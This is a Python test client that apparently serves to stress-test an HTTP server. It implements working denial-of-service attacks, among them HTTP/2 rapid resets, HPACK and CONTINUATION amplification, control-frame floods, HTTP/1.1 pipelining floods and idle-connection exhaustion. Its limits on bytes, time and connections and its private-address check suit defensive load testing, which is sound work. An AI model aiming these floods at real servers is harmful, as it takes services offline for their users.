#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""One hostile client, for the attack rows and tests. It is limited in bytes, connections and time, and attacks only
loopback or a private IPv4 address.

attacks.py NAME [HOST:]PORT SECONDS [MEGABYTES]

Prints one line of JSON: bytes sent, requests begun, connections made, answers by status, whether the answers came
in order (for `pipelined`, if they tell), how connections ended and how often, and the end in one word. SIGTERM ends
the attack early; it still prints.
"""

import collections
import ipaddress
import json
import re
import select
import signal
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MOST_MEGABYTES, MOST_CONNECTIONS = 256, 20_000
PIPELINED = 512  # requests of one burst, each with its own path
# HPACK (RFC 7541): GET, http, "/x", :authority "a" without indexing.
REQUEST = b"\x82\x86\x04\x02/x\x01\x01a"
POST = b"\x83\x86\x04\x02/x\x01\x01a"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def indexed_field(name, value):
    """A literal that enters the dynamic table. From then on it is index 62."""
    def text(data):
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest, out = len(data) - 127, b"\x7f"
        while rest >= 128:
            out, rest = out + bytes([rest % 128 + 128]), rest // 128
        return out + bytes([rest]) + data

    return b"\x40" + text(name) + text(value)


class Deadline:
    """When the attack is over: after its time, or when somebody stops it."""

    def __init__(self, seconds):
        self.at = time.monotonic() + seconds

    def left(self):
        return max(0.0, self.at - time.monotonic())

    def end(self, *_):
        self.at = 0.0


class Http2Frames:
    """Looks for a GOAWAY with an error, which ends the connection, and for the answer to a PING."""

    def __init__(self):
        self.rest = b""  # a frame that has not arrived completely
        self.goaway, self.pinged = "", False

    def take(self, data):
        data, at = self.rest + data, 0
        while at + 9 <= len(data):
            size = int.from_bytes(data[at : at + 3], "big")
            if at + 9 + size > len(data):
                break
            if data[at + 3] == GOAWAY and (error := int.from_bytes(data[at + 13 : at + 17], "big")):
                self.goaway = f"GOAWAY {error}"
            self.pinged = self.pinged or data[at + 3] == PING
            at += 9 + size
        self.rest = data[at:]


class Http1Answers:
    """Counts answers by status. If they redirect to a numbered path, the numbers must be in order."""

    HEAD = re.compile(rb"HTTP/1\.1 (\d+) .*?\r\n\r\n", re.DOTALL)
    NUMBER = re.compile(rb"\r\nlocation: \S*/(\d+)\r\n", re.IGNORECASE)

    def __init__(self):
        self.rest, self.statuses, self.goaway = b"", collections.Counter(), ""
        self.numbered, self.in_order = 0, None  # None: no answer has had a number so far

    def take(self, data):
        data, end = self.rest + data, 0
        for head in self.HEAD.finditer(data):
            end = head.end()
            self.statuses[head[1].decode()] += 1
            if number := self.NUMBER.search(head[0]):
                self.in_order = self.in_order is not False and int(number[1]) == self.numbered % PIPELINED
                self.numbered += 1
        # Only bytes of a body that may be the beginning of a head are kept.
        begun = data.find(b"HTTP/1.1 ", end)
        self.rest = data[begun:] if begun >= 0 else data[max(end, len(data) - 8) :]


class Connection:
    """Sends what it is given and reads what comes, so that the server never waits for it. Notes how the server
    ended it."""

    def __init__(self, address, deadline, http2=True):
        self.deadline, self.sent, self.ended = deadline, 0, ""
        self.reader = Http2Frames() if http2 else Http1Answers()
        source = ("127.0.0.2", 0) if address[0].startswith("127.") else None  # a different address from the bystander's
        try:
            self.socket = socket.create_connection(address, timeout=2, source_address=source)
        except OSError:
            self.socket, self.ended = socket.socket(), "refused"
            return
        self.socket.setblocking(False)
        if http2:
            self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        """Returns False when the connection is over or the time is up."""
        view = memoryview(data)
        while view and not self.ended:
            if not self.deadline.left():
                return False
            readable, writable, _ = select.select([self.socket], [self.socket], [], 0.05)
            if readable:
                self.read()
            if writable and not self.ended:
                try:
                    count = self.socket.send(view)
                except BlockingIOError:
                    continue
                except OSError:
                    self.read_last()
                    break
                self.sent, view = self.sent + count, view[count:]
        return not self.ended

    def read(self):
        """Returns False when nothing more can come."""
        try:
            data = self.socket.recv(1 << 18)
        except BlockingIOError:
            return True
        except OSError:
            self.ended = self.ended or "reset"
            return False
        if not data:
            self.ended = self.ended or "closed"
            return False
        self.reader.take(data)
        self.ended = self.ended or self.reader.goaway
        return True

    def read_last(self):
        """The server closed while we were sending. What it sent before can still be read."""
        while not self.ended and select.select([self.socket], [], [], 0.05)[0] and self.read():
            continue
        self.ended = self.ended or "reset"

    def wait(self, seconds, until_ping=False):
        """Waits until the server ends it or answers a PING. Reads what has arrived even if no time is left."""
        until = time.monotonic() + seconds
        while not self.ended and not (until_ping and self.reader.pinged):
            left = max(0.0, min(self.deadline.left(), until - time.monotonic()))
            if select.select([self.socket], [], [], min(left, 0.05))[0]:
                self.read()
            elif not left:
                return

    def close(self):
        self.socket.close()


class Attack:
    def __init__(self, address, seconds, megabytes=MOST_MEGABYTES):
        self.address, self.deadline, self.most_bytes = address, Deadline(seconds), megabytes << 20
        self.sent = self.requests = self.connections = 0
        self.endings, self.statuses, self.in_order = collections.Counter(), collections.Counter(), None

    def open(self, http2=True):
        self.connections += 1
        return Connection(self.address, self.deadline, http2)

    def over(self):
        return not self.deadline.left() or self.sent > self.most_bytes or self.connections >= MOST_CONNECTIONS

    def done_with(self, connection):
        connection.wait(0)
        self.sent += connection.sent
        self.endings[connection.ended or "served"] += 1
        if isinstance(connection.reader, Http1Answers):
            self.statuses += connection.reader.statuses
            if connection.reader.in_order is not None:
                self.in_order = self.in_order is not False and connection.reader.in_order
        connection.close()

    def ended(self):
        """In one word: what the server said if it said anything, otherwise how most connections ended."""
        said = [ending for ending in self.endings if ending.startswith("GOAWAY")]
        return max(said or self.endings, key=self.endings.get, default="served")

    def report(self):
        return {
            "bytes": self.sent, "requests": self.requests, "connections": self.connections, "answers": self.statuses, "in_order": self.in_order,
            "endings": self.endings, "ended": self.ended(),
        }  # fmt: skip

    def repeat(self, connection, data, each=0):
        """Sends the same bytes again and again until the server ends the connection or the time is up."""
        while not self.over() and connection.sent < self.most_bytes and connection.send(data):
            self.requests += each
        self.done_with(connection)

    # --- one connection
    def cookie_crumbs(self):
        connection = self.open()
        cookie = b"\x60\x22" + b"c" * 34  # literal with indexing, name 32 of the static table
        block = REQUEST + cookie
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        for stream in range(3, 3 + 2 * 119, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, REQUEST + b"\xbe" * 440))
            self.requests += 1
        connection.wait(self.deadline.left())
        self.done_with(connection)

    def hpack_references(self):
        connection = self.open()
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, REQUEST + indexed_field(b"x", b"v" * 3900)))
        stream = 3
        while not self.over() and not connection.ended:
            parts = [frame(HEADERS, END_STREAM, stream, REQUEST + b"\xbe" * 16000)]
            parts += [frame(CONTINUATION, END_HEADERS if i == 7 else 0, stream, b"\xbe" * 16000) for i in range(8)]
            if not connection.send(b"".join(parts)):
                break
            self.requests, stream = self.requests + 1, stream + 2
        self.done_with(connection)

    def window_updates(self):
        self.repeat(self.open(), frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 4096)

    def empty_data(self):
        connection = self.open()
        connection.send(frame(HEADERS, END_HEADERS, 1, POST))
        self.repeat(connection, frame(DATA, 0, 1) * 4096)

    def priorities(self):
        self.repeat(self.open(), frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 4096)

    def pings(self):
        self.repeat(self.open(), frame(PING, 0, 0, b"12345678") * 2048)

    def unknown_frames(self):
        self.repeat(self.open(), frame(0x77, 0, 0) * 4096)

    def pipelined(self):
        burst = b"".join(b"GET /x/%d HTTP/1.1\r\nHost: a\r\n\r\n" % i for i in range(PIPELINED))
        self.repeat(self.open(http2=False), burst, each=PIPELINED)

    def connection_options(self):
        head = b"GET /x HTTP/1.1\r\nHost: a\r\n" + b"".join(b"x%d: 1\r\n" % i for i in range(94)) + b"Connection: " + b"a," * 14_000 + b"a\r\n\r\n"
        while not self.over():
            connection = self.open(http2=False)
            while not self.over() and connection.send(head):
                self.requests += 1
                connection.wait(0.001)
            self.done_with(connection)

    # --- many connections
    def resets(self, second_frame):
        """Sends HEADERS and a second frame that ends the stream at once, on one connection after another. Leaves
        each when the server has read all of it."""
        one = lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST) + second_frame(stream)
        bursts = [b"".join(one(stream) for stream in range(first, first + 200, 2)) for first in range(1, 2001, 200)]
        while not self.over():
            connection = self.open()
            for burst in bursts:
                if self.over() or not connection.send(burst):
                    break
                self.requests += 100
            else:
                connection.send(frame(PING, 0, 0, b"all seen"))
                connection.wait(1, until_ping=True)
            self.done_with(connection)

    def rapid_resets(self):
        self.resets(lambda stream: frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))

    def provoked_resets(self):
        self.resets(lambda stream: frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"))

    def idle_connections(self):
        held = []
        while len(held) < 260 and not self.over():
            held.append(self.open(http2=False))
        for i, connection in enumerate(held):
            connection.wait(self.deadline.left() / (len(held) - i))
        for connection in held:
            self.done_with(connection)


ATTACKS = {
    "cookie_crumbs": "HTTP/2: 119 requests of 440 references to one cookie",
    "hpack_references": "HTTP/2: header blocks of 144,000 one-byte references to a field of 3.9 kB",
    "window_updates": "HTTP/2: WINDOW_UPDATE (+1) at full speed",
    "empty_data": "HTTP/2: empty DATA at full speed",
    "priorities": "HTTP/2: PRIORITY at full speed",
    "pings": "HTTP/2: PING at full speed",
    "unknown_frames": "HTTP/2: unknown empty frames at full speed",
    "rapid_resets": "HTTP/2: requests and their resets, connection after connection",
    "provoked_resets": "HTTP/2: requests and a frame that makes the server reset them",
    "pipelined": "HTTP/1.1: one client that pipelines without end",
    "connection_options": "HTTP/1.1: heads of 29 kB of Connection options and 94 fields",
    "idle_connections": "260 connections that say nothing, where 200 are allowed",
}


def address_of(text):
    """Returns (host, port) of "[HOST:]PORT". Only loopback and private addresses are allowed."""
    host, _, port = text.rpartition(":")
    host = ipaddress.IPv4Address(host or "127.0.0.1")
    if not host.is_private:
        raise ValueError(f"{host} is no private address")
    return str(host), int(port)


def main(arguments):
    name, address, seconds, *megabytes = arguments
    if name not in ATTACKS:
        print(f"no attack '{name}'; there are {', '.join(ATTACKS)}", file=sys.stderr)
        return 2
    attack = Attack(address_of(address), float(seconds), *map(int, megabytes))
    signal.signal(signal.SIGTERM, attack.deadline.end)
    getattr(attack, name)()
    print(json.dumps(attack.report()))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
